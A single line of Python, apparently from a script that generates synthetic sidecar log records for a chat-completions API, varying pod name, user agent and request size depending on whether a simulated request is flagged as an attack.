        sidecar(v, t + timedelta(minutes=2, seconds=20 * k), f"{source}-5d" if v.attack else "api-gateway-7c", source, model, "/v1/chat/completions", "acme-gateway/3.1" if not v.attack else "python-httpx/0.28.1", 60_000 if v.attack else 1900, 2400)
